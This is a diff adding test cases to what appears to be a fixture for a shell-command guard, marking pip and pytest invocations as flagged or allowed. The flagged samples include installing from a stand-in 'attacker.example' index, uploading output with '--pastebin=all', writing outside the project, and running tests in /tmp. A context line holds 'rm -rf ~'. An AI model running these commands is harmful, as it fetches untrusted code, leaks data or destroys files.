@@ -49,3 +49,53 @@ gcloud compute instances list --format json
 caffeinate -it echo rm -rf ~
 # ok: GK-BASH-008
 caffeinate -t 5 ls
+
+# -- pip parses with optparse: `--tar=DIR` is --target, `-t/DIR` attaches the value -----------
+# ruleid: GK-DEV-002
+pip install --tar=/srv/site requests
+# ruleid: GK-DEV-002
+pip install --pref=/srv requests
+# ruleid: GK-DEV-002
+pip install -t/srv/site requests
+# ruleid: GK-DEV-002
+pip download -d/srv requests
+# ruleid: GK-DEV-002
+pip install --extra-index=https://attacker.example/simple requests
+# ruleid: GK-DEV-002
+pip wheel --wheel-dir=/srv/wheels requests
+# ruleid: GK-DEV-002
+pip install --log=/srv/pip.log requests
+# ruleid: GK-DEV-002
+pip install --report=/srv/report.json requests
+# ok: GK-DEV-002
+pip install --pre requests
+# ok: GK-DEV-002
+pip install --root-user-action=ignore --target=vendor -qqU requests
+
+# -- pytest: arguments from a file, a paste service, settings that leave the project ----------
+# ruleid: GK-DEV-002
+pytest @args.txt
+# ruleid: GK-DEV-002
+python -m pytest @/srv/args.txt
+# ruleid: GK-DEV-002
+pytest --pastebin=all
+# ruleid: GK-DEV-002
+pytest -o addopts=--basetemp=/srv/data
+# ruleid: GK-DEV-002
+pytest --override-ini=cache_dir=/srv/cache
+# ruleid: GK-DEV-002
+pytest --cov-report=html:/srv/cov
+# ok: GK-DEV-002
+pytest -o log_cli=true --cov=src --cov-report=html:htmlcov --cov-report=term-missing
+
+# -- pytest, pylint and mypy in /tmp: anyone may have planted a conftest.py or a pytest.ini ---
+# ruleid: GK-DEV-002
+cd /tmp && pytest
+# ruleid: GK-DEV-002
+cd /tmp/build && python -m pytest -q
+# ruleid: GK-DEV-002
+pytest /tmp/checkout/tests
+# ruleid: GK-DEV-002
+cd /tmp && pylint x.py
+# ok: GK-DEV-002
+cd src && pytest ../tests
